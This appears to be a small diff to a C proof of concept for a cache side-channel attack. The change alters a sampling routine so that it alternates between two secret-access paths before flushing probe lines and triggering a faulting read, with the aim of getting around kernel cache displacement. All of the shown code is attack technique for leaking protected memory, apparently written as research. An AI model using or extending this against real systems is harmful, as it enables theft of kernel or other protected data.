@@ -30,7 +30,13 @@ static void change_entry(int entries, uint64_t physical)
 
 static int sample(int index)
 {
-	use_secret(index);
+	static int samples;
+
+	/* Which lines the kernel displaces from the cache depends on the way back from the service. */
+	if (samples++ & 1)
+		use_secret_beside(index);
+	else
+		use_secret(index);
 	flush_probe(probe);
 	flush_delays();
 	send_faulting(page + options.physical % PAGE_BYTES + index, probe);
